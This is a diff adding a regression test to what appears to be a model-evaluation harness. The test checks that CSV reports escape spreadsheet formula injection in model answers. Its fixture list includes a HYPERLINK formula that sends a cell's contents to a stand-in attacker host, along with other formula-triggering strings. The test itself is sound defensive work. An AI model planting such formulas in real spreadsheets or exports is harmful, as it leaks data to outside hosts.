@@ -83,3 +83,27 @@ def test_load_run_and_csv_tables_hold_the_record(tmp_path: Path) -> None:
     assert scores["correct"].mean() == expected["value"]
     with pytest.raises(ConfigError):
         harness.load_run(tmp_path / "not-a-run")
+
+
+def test_csv_tables_do_not_let_a_spreadsheet_run_an_answer(tmp_path: Path) -> None:
+    """A model's answer is untrusted: '=HYPERLINK(...)' written as is into responses.csv ran
+    as a formula when a committee opened the table in a spreadsheet."""
+    import pandas as pd
+
+    run = replay_run(tmp_path)
+    answers = ['=HYPERLINK("http://attacker.example/?"&A1,"details")', "@SUM(1+1)", "+1+1", "-2+3",
+               "- A, then B", "A", "The answer is B.", "A = B + 1"]
+    lines = []
+    for i, line in enumerate((run / "responses.jsonl").read_text().splitlines() * 2):
+        rec = json.loads(line)
+        rec["item_id"], rec["output"] = f"x{i}", answers[i]
+        lines.append(json.dumps(rec))
+    (run / "responses.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    for fmt in ("csv", "parquet"):
+        res = run_cli("report", str(run), "--format", fmt, "--out", str(tmp_path / fmt))
+        assert res.returncode == 0, res.stderr
+    written = pd.read_csv(tmp_path / "csv" / "responses.csv", keep_default_na=False)["output"].tolist()
+    assert written == ["'" + a for a in answers[:5]] + answers[5:]
+    assert pd.read_parquet(tmp_path / "parquet" / "responses.parquet")["output"].tolist() == answers
+    latency = pd.read_csv(tmp_path / "csv" / "metrics.csv")["value"]
+    assert latency.dtype.kind == "f"  # numbers stay numbers
